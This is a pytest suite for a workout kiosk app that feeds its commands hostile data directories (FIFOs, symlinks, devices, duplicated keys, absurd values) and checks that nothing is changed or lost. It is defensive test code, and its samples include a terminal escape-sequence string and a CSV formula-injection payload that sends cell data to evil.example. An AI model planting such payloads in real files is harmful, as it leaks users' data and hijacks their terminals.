"""Hostile files in the data directory, through every `kiosk` command (issue #9), in the open
month of the monthly store (issue #11): the file every save rewrites.

test_recovery.py has the corpus of histories that went bad by accident. This one has what an
attacker, a careless admin or a strange disk leaves: folders, FIFOs, devices and links where
files should be, keys written twice, escape sequences, spreadsheet formulas, huge and
impossible values, other owners. Every reader command runs against every item and must print
no traceback, exit as expected, leave the data directory exactly as it was (not one byte, mode,
owner or time changed), and show every session that can still be read. `kiosk demo`, a writer,
must then repair the item and still lose nothing.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import stat
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from store_samples import real_json

from kiosk import cli
from kiosk.store.export import FORMULA_STARTS
from kiosk.store.readonly import read_history

ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (mknod, chown)")
ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e\x9b31m"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bridge")'


def _file(records: dict[str, dict[str, Any]]) -> bytes:
    return json.dumps({"sessions": records}).encode()


def _abc() -> dict[str, dict[str, Any]]:
    return {str(i): real_json(sid, f"2026-11-2{i}T09:00:00")
            for i, sid in enumerate("abc", start=1)}


GOOD = _file(_abc())
BACKUP = _file({k: v for k, v in _abc().items() if k != "3"})  # a and b, from the day before


MONTH = "history/2026-11"  # the open month of the monthly store (months.py): saves go there


def _home(data: Path) -> Path:
    """The open month's folder, which the items below make hostile."""
    home = data / MONTH
    if data.is_dir() and not data.is_symlink():
        home.mkdir(parents=True, exist_ok=True)
    return home


def _history(data: Path) -> Path:
    return _home(data) / "history.json"


def _backup(data: Path, content: bytes = BACKUP, day: str = "2026-11-24") -> Path:
    (_home(data) / "backups").mkdir(exist_ok=True)
    path = _home(data) / "backups" / f"history-{day}.json"
    path.write_bytes(content)
    return path


def _with_c(change: Callable[[dict[str, Any]], None]) -> Callable[[Path], None]:
    """A history whose session c is changed; backup of a and b."""

    def make(data: Path) -> None:
        records = _abc()
        change(records["3"])
        _history(data).write_bytes(_file(records))
        _backup(data)

    return make


def _raw(content: bytes) -> Callable[[Path], None]:
    def make(data: Path) -> None:
        _history(data).write_bytes(content)
        _backup(data)

    return make


def _instead(make_it: Callable[[Path], None]) -> Callable[[Path], None]:
    """Something other than a file at history.json; backup of a and b."""

    def make(data: Path) -> None:
        make_it(_history(data))
        _backup(data)

    return make


def _set_first_set(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda r: r["exercises"][0]["sets"][0].update({key: value})


def _names(text: str) -> Callable[[dict[str, Any]], None]:
    def change(r: dict[str, Any]) -> None:
        r["id"] = text + "c"
        for ex in r["exercises"]:
            ex.update(name=text + ex["name"], reason=text, family=text + ex["family"],
                      variation=text + ex["variation"], change=text)

    return change


def _owned_by_another_user(data: Path) -> None:
    _history(data).write_bytes(GOOD)
    _backup(data)
    for path in [data, *data.rglob("*")]:
        os.chown(path, 4242, 4242)
    _history(data).chmod(0)


def _duplicated_sessions(data: Path) -> None:
    # The second, empty "sessions" hid the three real ones; an older backup has only a.
    text = GOOD.decode()[:-1] + ', "sessions": {}}'
    _history(data).write_text(text)
    _backup(data, _file({"1": real_json("a", "2026-11-21T09:00:00")}))


def _duplicated_seq(data: Path) -> None:
    records = _abc()
    text = json.dumps({"1": records["1"], "2": records["2"]})[:-1]
    text += ', "2": ' + json.dumps(records["3"]) + "}"
    _history(data).write_text('{"sessions": ' + text + "}")
    _backup(data)


def _duplicated_field(data: Path) -> None:
    text = GOOD.decode()
    last = text.rindex('"pain_after": ')
    _history(data).write_text(text[:last] + '"pain_after": "ten", ' + text[last:])
    _backup(data)


def _stale_temp(data: Path) -> None:
    _history(data).write_bytes(GOOD)
    (_home(data) / ".history.json.k2v8x.tmp").write_bytes(GOOD[:100])  # a save in progress?


def _backup_is_a_fifo(data: Path) -> None:
    _history(data).write_bytes(GOOD[: len(GOOD) // 2])
    _backup(data, _file({"1": real_json("a", "2026-11-21T09:00:00")}), "2026-11-20")
    os.mkfifo(_home(data) / "backups" / "history-2026-11-24.json")


def _link_to_good_file(path: Path) -> None:
    elsewhere = path.parent.parent / "elsewhere.json"
    elsewhere.write_bytes(GOOD)
    path.symlink_to(elsewhere)


@dataclass(frozen=True)
class Item:
    make: Callable[[Path], None]
    keeps: str  # the session ids every reader must show, in order ("" for none)
    damaged: bool = False  # the kiosk will set history.json aside and repair it
    refused: bool = False  # the data directory itself is unusable: readers exit 1
    root: bool = False  # needs root to make


def _not_a_dir(make_it: Callable[[Path], object]) -> Callable[[Path], None]:
    def make(data: Path) -> None:
        data.rmdir()
        make_it(data)

    return make


CORPUS: dict[str, Item] = {
    "history is a folder": Item(_instead(lambda p: p.mkdir()), "ab", damaged=True),
    "history is a FIFO": Item(_instead(os.mkfifo), "ab", damaged=True),
    "history is a device": Item(
        _instead(lambda p: os.mknod(p, stat.S_IFCHR | 0o600, os.makedev(1, 3))), "ab",
        damaged=True, root=True),
    "history links to a good file elsewhere": Item(_instead(_link_to_good_file), "ab",
                                                    damaged=True),
    "history links to /dev/zero": Item(_instead(lambda p: p.symlink_to("/dev/zero")), "ab",
                                       damaged=True),
    "history is a dangling link": Item(_instead(lambda p: p.symlink_to(p.parent / "gone")), "ab",
                                       damaged=True),
    "duplicated sessions key": Item(_duplicated_sessions, "abc", damaged=True),
    "duplicated sequence number": Item(_duplicated_seq, "abc", damaged=True),
    "duplicated field in a record": Item(_duplicated_field, "abc", damaged=True),
    "escape sequences in names": Item(_with_c(_names(ESCAPES)), "ab" + ESCAPES + "c"),
    "formulas in names": Item(_with_c(_names(FORMULA)), "ab" + FORMULA + "c"),
    "formula-like starts": Item(_with_c(_names("+-@\t\r")), "ab+-@\t\rc"),
    "clean reps above reps": Item(_with_c(_set_first_set("clean_reps", 10**9)), "abc",
                                  damaged=True),
    "negative duration": Item(_with_c(lambda r: r.update(duration_s=-5)), "abc", damaged=True),
    "duration over a day": Item(_with_c(lambda r: r.update(duration_s=1e308)), "abc",
                                damaged=True),
    "a number of 5000 digits": Item(_raw(GOOD.replace(b'"clean_reps": 2', b'"clean_reps": '
                                                      + b"9" * 5000, 1)), "ab", damaged=True),
    "a target of a billion": Item(_with_c(lambda r: r["exercises"][0].update(target=10**9)),
                                  "ab", damaged=True),
    "dates in the future": Item(_with_c(lambda r: r.update(plan_date="2099-01-01",
                                                           started_at="2099-01-01T09:00:00",
                                                           ended_at="2099-01-01T09:10:00")),
                                "abc"),
    "a temp file of a save in progress": Item(_stale_temp, "abc"),
    "the newest backup is a FIFO": Item(_backup_is_a_fifo, "a", damaged=True),
    "everything owned by another user, history mode 000": Item(_owned_by_another_user, "abc",
                                                                root=True),
    "data dir is a file": Item(_not_a_dir(lambda d: d.write_bytes(GOOD)), "", refused=True),
    "data dir is a FIFO": Item(_not_a_dir(os.mkfifo), "", refused=True),
    "data dir links to a file": Item(_not_a_dir(_link_to_good_file), "", refused=True),
    "data dir is missing": Item(_not_a_dir(lambda d: None), ""),
}


def _ids(item: Item) -> list[str]:
    """The ids ``keeps`` spells: single letters, or a name that ends in c."""
    if item.keeps.endswith("c") and len(item.keeps) > 3:
        return ["a", "b", item.keeps[2:]]
    return list(item.keeps)


READERS: list[list[str]] = [
    ["history"],
    ["plan", "--date", "2026-11-26"],
    ["export"],
    ["export", "--format", "csv"],
    ["export", "--format", "csv", "--out", "{out}"],
    ["check"],
]


@pytest.fixture(autouse=True)
def _no_pi(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("KIOSK_CONFIG", raising=False)
    monkeypatch.setenv("KIOSK_DEVICE_MODEL", os.devnull)  # no Pi, whatever board runs this


def snapshot(top: Path) -> dict[str, tuple[Any, ...]]:
    """Every path under ``top`` with its kind, mode, owner, time and (for a file) content hash."""
    seen: dict[str, tuple[Any, ...]] = {}
    paths = [top, *(Path(d) / n for d, dirs, files in os.walk(top) for n in dirs + files)]
    for path in paths:
        try:
            st = os.lstat(path)
        except FileNotFoundError:
            continue
        digest = (hashlib.sha256(path.read_bytes()).hexdigest()
                  if stat.S_ISREG(st.st_mode) else None)
        seen[str(path)] = (stat.S_IFMT(st.st_mode), st.st_mode, st.st_uid, st.st_size,
                           st.st_mtime_ns, digest)
    return seen


class FifoWatch:
    """Notices if anyone opens a FIFO under ``top`` for reading (and frees them if so)."""

    def __init__(self, top: Path) -> None:
        self.fifos = [Path(d) / n for d, _, files in os.walk(top) for n in files
                      if stat.S_ISFIFO(os.lstat(Path(d) / n).st_mode)]
        self.opened: list[Path] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()

    def _watch(self) -> None:
        while not self._stop.wait(0.05):
            for fifo in self.fifos:
                try:
                    fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)  # works only with a reader
                except OSError:
                    continue
                if stat.S_ISFIFO(os.fstat(fd).st_mode):  # not a file that took its name since
                    self.opened.append(fifo)
                os.close(fd)  # the reader sees end of file instead of hanging for ever

    def stop(self) -> list[Path]:
        self._stop.set()
        self._thread.join()
        return self.opened


@pytest.fixture(params=list(CORPUS))
def item(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Item, Path]]:
    entry = CORPUS[request.param]
    if entry.root and os.geteuid() != 0:
        pytest.skip("needs root")
    data = tmp_path / "top" / "data"
    data.mkdir(parents=True)
    entry.make(data)
    yield entry, data


def run(capsys: pytest.CaptureFixture[str], data: Path, args: list[str]) -> tuple[int, str, str]:
    code = cli.main(["--data-dir", str(data), *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_the_corpus_covers_what_the_issue_names() -> None:
    assert len(CORPUS) >= 20
    assert sum(i.refused for i in CORPUS.values()) >= 3 and any(i.root for i in CORPUS.values())


def test_every_reader_leaves_every_item_untouched_and_shows_what_can_be_read(
    item: tuple[Item, Path], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    entry, data = item
    top = data.parent
    before = snapshot(top)
    watch = FifoWatch(top)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    try:
        results = {}
        for args in READERS:
            args = [a.format(out=out_dir / "export.csv") for a in args]
            results[" ".join(args)] = run(capsys, data, args)
    finally:
        opened = watch.stop()
    assert opened == [], "a reader opened a FIFO for reading"
    assert snapshot(top) == before, "a reader changed the data directory"
    for name, (code, out, err) in results.items():
        assert "Traceback" not in out + err, (name, err)
        # Nothing that drives a terminal; an export into a pipe (not a terminal) stays exact.
        for text in (err, "" if name.startswith("export") else out):
            assert not any(ch in text for ch in "\x1b\x07\x9b\u202e"), (name, text)
        if entry.refused:
            assert code == 1, name
            # One line naming the path and the fix (check prints its report on stdout).
            [line] = err.splitlines() if name != "check" else [
                line for line in out.splitlines() if "PROBLEM" in line]
            assert str(data) in line and "--data-dir" in line, line
        elif name != "check":
            # Damage makes a reader exit non-zero (issue 29), saying on stdout what it
            # recovered; an export to stdout says it on stderr, its stdout being the data.
            assert code == (cli.DAMAGED if entry.damaged else 0), (name, err)
        if entry.damaged and name != "check":
            told = err if name.startswith("export") and "--out" not in name else out
            assert "the kiosk will" in told and "when it next starts" in told, (name, out, err)
            assert "recovered " in told, told
    code, out, _ = results["check"]
    assert (code != 0) == (entry.damaged or entry.refused), out
    if not entry.refused:
        exported = json.loads(results["export"][1])
        assert [s["id"] for s in exported["sessions"]] == _ids(entry)  # nothing lost
        written = out_dir / "export.csv"
        assert stat.S_IMODE(written.stat().st_mode) == 0o600
        _assert_no_formula(written.read_text(encoding="utf-8"))
        assert sorted(p.name for p in out_dir.iterdir()) == ["export.csv"]  # no temp left


def _assert_no_formula(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@pytest.mark.slow
def test_the_kiosk_repairs_every_item_and_loses_nothing(
    item: tuple[Item, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    entry, data = item
    damaged = _history(data)
    original = (damaged.read_bytes() if damaged.is_file() and not damaged.is_symlink()
                and os.access(damaged, os.R_OK) else None)
    watch = FifoWatch(data.parent)
    try:
        code, out, err = run(capsys, data, ["demo", "--date", "2026-11-26"])
    finally:
        opened = watch.stop()
    assert opened == []
    assert "Traceback" not in out + err, err
    owned_by_another = data.is_dir() and data.stat().st_uid != os.geteuid()
    if entry.refused or owned_by_another:
        assert code == 1
        [line] = err.strip().splitlines()
        assert str(data) in line
        return
    assert code == 0, err
    [new] = [line.split()[2] for line in out.splitlines() if line.startswith("saved: session ")]
    assert [s.id for s in read_history(data).sessions] == [*_ids(entry), new]
    if entry.damaged:
        [kept] = _home(data).glob("history.json.corrupt-*")
        if original is not None:
            assert kept.read_bytes() == original  # the damaged file itself, byte for byte
